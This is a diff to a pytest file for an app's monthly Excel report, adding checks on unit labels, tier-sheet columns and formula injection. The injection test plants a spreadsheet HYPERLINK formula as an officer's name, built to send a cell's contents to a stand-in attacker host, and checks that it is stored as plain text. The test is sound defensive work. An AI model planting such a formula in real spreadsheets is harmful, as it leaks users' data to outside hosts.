@@ -1,6 +1,7 @@
 """The monthly Excel report: stored by the job, downloaded in scope, opening with openpyxl."""
 
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -109,10 +110,72 @@ def test_formats_frozen_headers_and_widths(analysed, client_for):
     headers = [cell.value for cell in districts[1]]
     row = districts[2]
     assert row[headers.index("走访覆盖率")].number_format == "0.0%"
-    assert row[headers.index("产值")].number_format == '#,##0.00"万元"'
-    assert row[headers.index("贷款")].number_format == '#,##0.00"亿元"'
+    assert row[headers.index("产值（万元）")].number_format == "#,##0.00"
+    assert row[headers.index("贷款（亿元）")].number_format == "#,##0.00"
     assert row[headers.index("企业数（家）")].number_format == "#,##0"
     assert districts[1][0].font.bold
+
+
+def test_an_amount_names_its_unit_once_in_the_unit_column_or_heading_never_in_the_format(analysed, client_for):
+    """Given the zone's October report, when it is opened, then 万元 and 亿元 appear in the summary's
+    unit column and the tables' headings, and no cell's number format repeats them."""
+    book = workbook(client_for(analysed.manager).get("/analytics/reports/monthly.xlsx?month=2026-10"))
+
+    summary = {row[0].value: row for row in book["园区汇总"].iter_rows(min_row=3)}
+    output = summary["产值"]
+    assert (output[1].value, output[1].number_format, output[2].value) == (1100.5, "#,##0.00", "万元")
+    assert summary["贷款"][2].value == "亿元"
+    coverage = summary["走访覆盖率"]
+    assert (coverage[1].number_format, coverage[2].value) == ("0.0%", None)  # the format shows the %
+    assert summary["企业数"][2].value == "家"
+    formats = {cell.number_format for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert not [number_format for number_format in formats if "万元" in number_format or "亿元" in number_format]
+
+
+def test_the_district_tier_sheet_has_the_columns_of_the_zone_tier_sheet(analysed, client_for):
+    """Given October in district A (a leading and a growth enterprise), when its leader opens the
+    report, then 企业分类 has the zone edition's columns, with the district's own figures and 合计."""
+    zone_book = workbook(client_for(analysed.manager).get("/analytics/reports/monthly.xlsx?month=2026-10"))
+    district_book = workbook(client_for(analysed.leader_a).get("/analytics/reports/monthly.xlsx?month=2026-10"))
+
+    zone_headers = [cell.value for cell in zone_book["企业分类"][1]]
+    district_headers = [cell.value for cell in district_book["企业分类"][1]]
+    assert district_headers == zone_headers
+    assert len(district_headers) == 14
+    tiers = table(district_book["企业分类"])
+    assert list(tiers) == ["龙头企业", "骨干企业", "成长型企业", "困难企业", "合计"]
+    figures = {
+        name: (row["企业数（家）"], row["走访次数（次）"], row["新增问题（件）"], row["产值（万元）"])
+        for name, row in tiers.items()
+    }
+    assert figures == {
+        "龙头企业": (1, 0, 1, 1000.0),
+        "骨干企业": (0, 0, 0, "—"),  # no output reported: no base, as in the zone edition
+        "成长型企业": (1, 2, 2, 100.5),
+        "困难企业": (0, 0, 0, "—"),
+        "合计": (2, 2, 3, 1100.5),
+    }
+    assert district_book["企业分类"].freeze_panes == "B2"
+
+
+def test_names_in_the_workbook_are_text_never_formulas(cast, october, client_for):
+    """Given an officer whose name is a formula, when the month is analysed and the report opened,
+    then the ranking shows the literal name and the file holds no formula at all."""
+    payload = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
+    october.officer_a.name = payload
+    october.officer_a.save()
+    monthly_analysis_run(month=OCTOBER)
+
+    response = client_for(october.manager).get("/analytics/reports/monthly.xlsx?month=2026-10")
+    content = b"".join(response.streaming_content)
+
+    ranking = {
+        row[1].value: row[1] for row in openpyxl.load_workbook(io.BytesIO(content))["网格员排名"].iter_rows(min_row=2)
+    }
+    assert ranking[payload].data_type == "s"
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
 
 
 def test_district_leader_gets_his_district_only(analysed, client_for):
